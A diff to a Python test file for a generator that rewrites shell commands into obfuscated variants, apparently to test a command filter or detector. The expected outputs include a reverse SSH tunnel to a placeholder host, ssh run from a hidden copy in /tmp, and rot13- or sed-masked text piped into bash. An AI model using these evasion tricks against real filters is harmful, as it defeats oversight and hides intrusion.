@@ -62,7 +62,10 @@ def test_variant_kinds_are_generated():
     names = set(variants("ssh -R 1:l:22 host.example"))
     assert names == {"base64_pipe_shell", "bash_c", "script_written_then_run", "variable_split_name",
                      "changed_quoting", "absolute_path", "brace_words", "line_continuation", "empty_expansion", "ifs_spaces",
-                     "ifs_fields", "arithmetic", "unset_variable", "rot13_tr_shell", "sed_masked_shell"}
+                     "ifs_fields", "arithmetic", "unset_variable", "rot13_tr_shell", "sed_masked_shell", "copied_program",
+                     "positional_words"}
+    assert variants("ssh x")["copied_program"] == "cp $(command -v ssh) /tmp/.cache-5 && /tmp/.cache-5 x"
+    assert variants("ssh x")["positional_words"] == "sh -c '\"$0\" \"$@\"' ssh x"
     assert variants("id")["rot13_tr_shell"] == "printf '%s\\n' vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"
     assert variants("ssh x")["sed_masked_shell"] == "printf '%s\\n' '~~h x' | sed 's/~/s/g' | bash"
     assert variants("ssh -R 1:l:22 host.example")["unset_variable"] == "s${zq}sh -R 1:l:22 host.example"
